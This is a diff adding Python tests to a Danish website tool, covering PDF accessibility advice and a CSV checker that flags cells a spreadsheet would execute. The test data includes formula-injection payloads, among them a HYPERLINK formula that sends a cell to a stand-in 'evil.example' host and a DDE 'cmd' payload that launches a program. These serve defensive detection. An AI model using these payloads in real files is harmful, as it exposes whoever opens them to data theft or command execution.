@@ -15,8 +15,10 @@ from pikepdf import Array, Dictionary, Name
 from kanalstrategi.markdown.nodes import element, text_of
 from kanalstrategi.rendering.attachments import attachment_note, describe_attachments
 from kanalstrategi.sanitizing import office_files
+from kanalstrategi.sanitizing.csv_files import check_csv
 from kanalstrategi.sanitizing.files import check_files
 from kanalstrategi.sanitizing.office_files import check_office
+from kanalstrategi.sanitizing.pdf_accessibility import advise_on_pdf
 from kanalstrategi.sanitizing.pdf_files import check_pdf
 
 # Files of Word and Excel
@@ -265,11 +267,108 @@ def test_a_damaged_file_never_stops_the_check(place: int, change: bytes) -> None
         check(data[:start] + change + data[start + len(change) :])
 
 
+# What a PDF lacks for those who have it read aloud
+
+
+def spoken(**changes: object) -> pikepdf.Pdf:
+    """Return a PDF with tags and a language, and without a title."""
+    return pdf_with(**{"MarkInfo": Dictionary(Marked=True), "StructTreeRoot": Dictionary(K=Array([])), "Lang": pikepdf.String("da-DK"), **changes})
+
+
+METADATA = b'<x><dc:title><rdf:Alt><rdf:li xml:lang="x-default">Plan</rdf:li></rdf:Alt></dc:title></x>'
+
+
+def titled(pdf: pikepdf.Pdf, title: str = "Plan") -> pikepdf.Pdf:
+    pdf.docinfo["/Title"] = title
+    return pdf
+
+
+@pytest.mark.parametrize(
+    ("pdf", "message"),
+    [
+        (titled(pdf_with(Lang=pikepdf.String("da"))), "har ingen mærker (tags)"),
+        (spoken(MarkInfo=Dictionary(Marked=False)), "har ingen mærker (tags)"),
+        (spoken(StructTreeRoot=Dictionary()), "har ingen mærker (tags)"),
+        (spoken(MarkInfo=1, StructTreeRoot=2), "har ingen mærker (tags)"),
+        (titled(spoken(Lang=1)), "siger ikke, hvilket sprog den er på"),
+        (titled(spoken(Lang=pikepdf.String(" "))), "siger ikke, hvilket sprog den er på"),
+        (spoken(), "har ingen titel"),
+        (titled(spoken(), " "), "har ingen titel"),
+        (titled(spoken()), ""),
+    ],
+)
+def test_it_is_advised_against_a_pdf_that_cannot_be_read_aloud_well(pdf: pikepdf.Pdf, message: str) -> None:
+    assert check_pdf(saved(pdf)) == []
+    advice = [found for found, _ in advise_on_pdf(saved(pdf))]
+    assert len(advice) == bool(message) and all(found.startswith(f"PDF-filen {message}") for found in advice)
+
+
+def test_a_title_may_stand_in_the_metadata_alone() -> None:
+    for metadata, count in ((METADATA, 0), (METADATA.replace(b"Plan", b" "), 1), (b"<dc:title", 1), (b"", 1)):
+        pdf = spoken()
+        pdf.Root.Metadata = pdf.make_indirect(pikepdf.Stream(pdf, metadata))
+        assert len(advise_on_pdf(saved(pdf, fix_metadata_version=False))) == count, metadata
+
+
+def test_nothing_is_advised_about_a_file_that_is_reported_anyway() -> None:
+    assert advise_on_pdf(b"MZ") == advise_on_pdf(saved(spoken())[:-200]) == []
+
+
+# Tables as text
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Sted;Telefon\nBiblioteket;+45 54 73 00 00\n",
+        "a;b\n-5;-2,5\n+3;-\n",
+        "a,b\r\n1,-1\r\n",
+        "pris\n100,- kr.\n",
+        "profil;note\n@guldborgsund;- ingen\n",
+        'a;"b = c; og d"\n',
+        "telefon\n+45 54730000 (9-15)\n",
+        "\ufeffa;b\n",
+        "",
+    ],
+)
+def test_numbers_telephone_numbers_and_words_are_values(text: str) -> None:
+    assert check_csv(text.encode()) == []
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ("a;b\n1;=1+1\n", "=1+1"),
+        ('a,b\n1, "=HYPERLINK(""https://evil.example/""&A2)"\n', '=HYPERLINK(""https://evil.example/""&A2)'),
+        ("a\tb\n1\t=1\n", "=1"),
+        ("a;b\n-2+3+cmd|' /C calc'!A0;1\n", "-2+3+cmd|' /C calc'!A0"),
+        ("a;b\n+WEBSERVICE(A1);1\n", "+WEBSERVICE(A1)"),
+        ("a;b\n@SUM (A1);1\n", "@SUM (A1)"),
+        ("a;b\n-LOG10(A1);1\n", "-LOG10(A1)"),
+        ("sep=|\n1|=1\n", "=1"),
+        ("a;b\n1;\uff1dA1\n", "\uff1dA1"),
+    ],
+)
+def test_a_cell_that_a_spreadsheet_runs_is_reported_with_its_line(text: str, cell: str) -> None:
+    [wrong] = check_csv(text.encode())
+    assert (wrong.line, wrong.message) == (2, f"cellen »{cell}« er en formel, som et regneark udfører")
+
+
+def test_a_table_is_text_in_utf_8_without_a_long_list_of_mistakes() -> None:
+    assert [wrong.message for wrong in check_csv("æ;b\n".encode("cp1252"))] == ["teksten er ikke gemt som UTF-8, men ser ud til at være Windows-1252 (»ANSI«)"]
+    assert [wrong.line for wrong in check_csv(b"a;b\n1;\x00\n")] == [2]
+    assert check_csv(office(".xlsx")) != []
+    assert len(check_csv(b"=1;=2\n" * 1_000)) == 10
+    [long] = check_csv(b"=" + b"a" * 1_000)
+    assert len(long.message) < 100
+
+
 # Among the files of a site
 
 
 def test_attachments_may_lie_in_docs_by_the_names_that_all_files_have(tmp_path: Path) -> None:
     files = {"bilag/plan.pdf": saved(pdf_with()), "bilag/plan.docx": office(".docx"), "bilag/tal.xlsx": office(".xlsx"), "bilag/Tal 1.xlsx": office(".xlsx")}
+    files |= {"bilag/tal.csv": b"a;b\n1;2\n"}
     (tmp_path / "bilag").mkdir()
     for name, data in files.items():
         (tmp_path / name).write_bytes(data)
@@ -288,6 +387,9 @@ def test_an_attachment_may_be_larger_than_an_image_but_not_of_any_size(tmp_path:
     (tmp_path / "a.pdf").write_bytes(bytes(10_000_001))
     [wrong] = check_files(tmp_path, ["a.pdf"])
     assert wrong.message == "filen fylder 10001 kB, og den må højst fylde 10000 kB" and "del den i flere" in wrong.hint
+    (tmp_path / "a.csv").write_bytes(b"1\n" * 1_000_001)
+    [wrong] = check_files(tmp_path, ["a.csv"])
+    assert (wrong.message, wrong.hint) == ("filen fylder 2001 kB, og den må højst fylde 2000 kB", "del den i flere")
 
 
 @pytest.mark.parametrize("name", ["a.docm", "a.doc", "a.xlsm", "a.exe", "a.pptx", "a.zip", "a.html"])
@@ -307,6 +409,7 @@ def test_other_kinds_of_files_are_refused_and_the_allowed_ones_named(tmp_path: P
         ("../bilag/plan.docx", 34_000, "(Word, 34 kB)"),
         ("tal.xlsx", 12_400, "(Excel, 12 kB)"),
         ("tal.xlsx", 10, "(Excel, 1 kB)"),
+        ("tal.csv", 1_400, "(CSV, 1 kB)"),
         ("tal.xlsx", 999_700, "(Excel, 1 MB)"),
         ("plan.pdf", 10_000_000, "(PDF, 10 MB)"),
     ],
